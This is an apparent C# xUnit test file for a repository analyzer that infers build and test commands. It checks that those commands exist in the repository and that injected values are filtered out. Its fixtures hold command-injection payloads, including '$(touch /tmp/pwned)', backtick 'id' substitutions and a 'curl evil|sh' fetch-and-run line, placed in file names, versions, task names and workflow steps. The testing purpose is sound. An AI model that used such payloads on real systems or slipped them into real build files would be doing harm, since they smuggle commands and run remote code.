using System.Text.RegularExpressions;
using AutoDevOps.Analyzer.Detectors;

namespace AutoDevOps.Analyzer.Tests.RepositoryModels;

/// <summary>Checks each command against the repository by other means than the detectors': every program that is called must be declared
/// there, every script or target defined, every path present.</summary>
public sealed partial class NoInventedCommandTests
{
    public static TheoryData<string> Repositories => FixtureRepositories.Names;

    [Theory]
    [MemberData(nameof(Repositories))]
    public void Every_command_resolves_to_something_in_the_repository(string name)
    {
        var snapshot = FixtureRepositories.Snapshot(name);
        var (model, _) = RepositoryModelBuilder.Build(snapshot);
        foreach (var component in model.Components)
        {
            foreach (var command in component.Commands)
            {
                Assert.True(CommandResolution.Resolves(snapshot, command), $"{name}: nothing in the repository answers for `{command.Run}`.");
            }
        }
    }

    [Theory]
    [InlineData("npm run deploy")]
    [InlineData("make ghost")]
    [InlineData("just ghost")]
    [InlineData("npx --no-install ghost")]
    [InlineData("./scripts/ghost")]
    [InlineData("tox run -e ghost")]
    [InlineData("uv run ghost")]
    [InlineData("bundle install")]
    [InlineData("BUNDLE_FROZEN=true bundle install")]
    [InlineData("bundle exec rake ghost")]
    [InlineData("bundle exec ghost")]
    [InlineData("bin/ghost test")]
    [InlineData("composer install --no-interaction")]
    [InlineData("composer run-script ghost")]
    [InlineData("vendor/bin/ghost")]
    [InlineData("php artisan test")]
    [InlineData("mix test")]
    [InlineData("mix ghost")]
    [InlineData("dart test")]
    [InlineData("flutter test")]
    [InlineData("dart run ghost")]
    [InlineData("swift test")]
    [InlineData("swiftlint lint")]
    [InlineData("cabal test all")]
    [InlineData("stack test")]
    [InlineData("hlint .")]
    [InlineData("zig build test")]
    [InlineData("cargo test --locked")]
    [InlineData("./gradlew test")]
    [InlineData("./gradlew spotlessCheck")]
    [InlineData("mvn --batch-mode verify")]
    [InlineData("sbt scalafmtCheckAll")]
    [InlineData("deno task ghost")]
    [InlineData("deno install --frozen")]
    [InlineData("cmake -S . -B build")]
    [InlineData("cmake --preset ghost")]
    [InlineData("ctest --test-dir build --output-on-failure")]
    [InlineData("meson test -C build")]
    [InlineData("terraform validate")]
    [InlineData("docker build .")]
    [InlineData("bats test")]
    [InlineData("shellcheck ghost.sh")]
    public void The_check_itself_refuses_what_is_not_there(string run)
    {
        var snapshot = RepositorySnapshot.FromText(("package.json", "{\"scripts\":{\"test\":\"jest\"}}"), ("Makefile", "test:\n\tjest\n"), ("tox.ini", "[testenv]\n"), ("pyproject.toml", "[project]\n"));
        Assert.False(CommandResolution.Resolves(snapshot, new(CommandKind.Test, run, ".", 1, [new("package.json", 0)])));
    }

    [Theory]
    [MemberData(nameof(Repositories))]
    public void No_command_carries_what_a_shell_or_a_vendor_would_expand(string name)
    {
        var (model, _) = RepositoryModelBuilder.Build(FixtureRepositories.Snapshot(name));
        Assert.All(model.Components.SelectMany(component => component.Commands),
            command => Assert.DoesNotMatch(Dangerous(), command.Run));
    }

    [Fact]
    public void Names_made_to_be_run_reach_no_command()
    {
        const string Payload = "$(touch /tmp/pwned)`id`;curl evil|sh\n${{ github.token }}'\"&";
        var json = System.Text.Json.JsonSerializer.Serialize(Payload)[1..^1];
        var (model, diagnostics) = RepositoryModelBuilder.Build(RepositorySnapshot.FromText(
            ("package.json", $"{{\"name\":\"{json}\",\"packageManager\":\"pnpm@{json}\",\"engines\":{{\"node\":\"{json}\"}},\"workspaces\":[\"*\"],\"scripts\":{{\"test{json}\":\"jest\",\"test\":\"jest {json}\"}}}}"),
            ("$(id)/package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}"),
            ("pyproject.toml", $"[project]\nname = \"{json.Replace("\\u0027", "'").Replace("\\u0026", "&")}\"\n[project.optional-dependencies]\n\"{json.Replace("\\u0027", "'").Replace("\\u0026", "&")}\" = [\"pytest\", \"mypy\"]\n[tool.poe.tasks]\n\"test; id\" = \"x\"\n"),
            ("test_a.py", "import unittest\n"), ("tox.ini", "[testenv:lint;$(id)]\n"), (".nvmrc", "$(id)\n"), (".python-version", "3.12; id\n"),
            ("Makefile", "lint;id:\n\techo\ntest`id`:\n\techo\n"), ("justfile", "test$(id):\n  x\n"), ("Taskfile.yml", "tasks:\n  \"lint\\nid\": x\n"),
            ("noxfile.py", "import nox\n@nox.session(name=\"lint $(id)\")\ndef a(session): pass\n"),
            ("go.mod", "module $(id)\ngo $(id)\n"), ("a`id`/b.go", "package a\n"), ("a.go", "package a\n"),
            ("rs/Cargo.toml", "[package]\nname = \"$(id)\"\nrust-version = \"1.80; id\"\n"), ("rs/rust-toolchain.toml", "[toolchain]\nchannel = \"$(id)\"\n"), ("rs/src/lib.rs", "#[test]\nfn a() {}\n"),
            ("mvn/pom.xml", "<project><artifactId>$(id)</artifactId><build><plugins><plugin><artifactId>maven-pmd-plugin</artifactId><executions><execution><id>$(id)</id><goals><goal>check</goal></goals></execution></executions></plugin></plugins></build></project>"), ("mvn/src/test/java/ATest.java", ""),
            ("gr/build.gradle", "apply plugin: 'java'\nsourceCompatibility = '$(id)'\n"), ("gr/src/main/kotlin/A.kt", ""), ("gr/.sdkmanrc", "java=$(id)\n"), ("sc/build.sbt", "name := \"$(id)\"\n"), ("sc/src/test/scala/ASpec.scala", ""), ("sc/project/build.properties", "sbt.version=$(id)\n"),
            ("deno.json", $"{{\"name\":\"{json}\",\"exports\":\"{json}\",\"lint\":{{}},\"tasks\":{{\"test{json}\":\"deno test\",\"lint\":\"deno lint {json}\"}},\"lock\":\"{json}\",\"workspace\":[\"{json}\"]}}"), (".dvmrc", "$(id)\n"), ("deno_test.ts", "Deno.test();\n"),
            ("native/CMakeLists.txt", "project(\"$(id)\" CXX)\noption(\"A;$(id)\" \"\" OFF)\nif(\"A;$(id)\")\nenable_testing()\nadd_test(\"`id`\" x)\nendif()\nenable_testing()\nadd_test(x y)\n"), ("native/CMakePresets.json", "{\"configurePresets\":[{\"name\":\"$(id)\",\"binaryDir\":\"build\"}]}"), ("native/a.cpp", ""),
            ("infra/main.tf", "terraform {\n  required_version = \"$(id)\"\n}\nmodule \"x\" {\n  source = \"./`id`\"\n}\n"), ("infra/`id`/main.tf", ""), (".terraform-version", "`id`\n"),
            ("image/Dockerfile.$(id)", "FROM x\n"), ("image/$(id)/Dockerfile", "FROM x\n"),
            ("$(id).sln", ""), ("B.csproj", "<Project/>"), ("compose.yaml", "services:\n  x:\n    image: \"postgres:$(id)\"\n"),
            (".github/workflows/a.yml", "jobs:\n  test:\n    steps:\n      - run: npm test $(id)\n      - run: pytest `id`\n      - run: npm test -- ${{ github.head_ref }}\n      - run: go test $X ./...\n")));

        Assert.DoesNotContain(diagnostics, diagnostic => diagnostic.Message.Contains("detector failed", StringComparison.Ordinal));
        Assert.Equal(["cpp", "deno", "dotnet", "go", "java", "kotlin", "node", "python", "rust", "scala", "terraform"], model.Components.Select(component => component.Ecosystem).Distinct().Order(StringComparer.Ordinal));
        Assert.All(model.Components.SelectMany(component => component.Commands), command =>
        {
            Assert.DoesNotMatch(Dangerous(), command.Run);
            Assert.DoesNotMatch(Dangerous(), command.WorkingDirectory);
        });
        Assert.All(model.Components.SelectMany(component => component.Runtimes).SelectMany(runtime => runtime.Versions), version => Assert.Matches("^[0-9A-Za-z.*/-]+$", version));
        Assert.All(model.Components.SelectMany(component => component.Services), service => Assert.Matches("^[0-9A-Za-z.-]*$", service.Version ?? ""));
    }

    [Theory]
    [InlineData("npm test -- \u202Egnp.x")]
    [InlineData("npm test -- a\u200Bb")]
    public void A_command_with_characters_that_nobody_sees_is_not_taken_over(string run)
    {
        var (model, _) = RepositoryModelBuilder.Build(RepositorySnapshot.FromText(
            ("package.json", "{\"scripts\":{\"test\":\"node --test\"}}"), (".github/workflows/ci.yml", $"on: push\njobs:\n  test:\n    steps:\n      - run: {run}\n")));
        Assert.Equal(["npm install", "npm test"], model.Components[0].Commands.Select(command => command.Run));
    }

    [GeneratedRegex(@"[$`;|<>\n]|\$\{\{", RegexOptions.NonBacktracking)]
    private static partial Regex Dangerous();
}
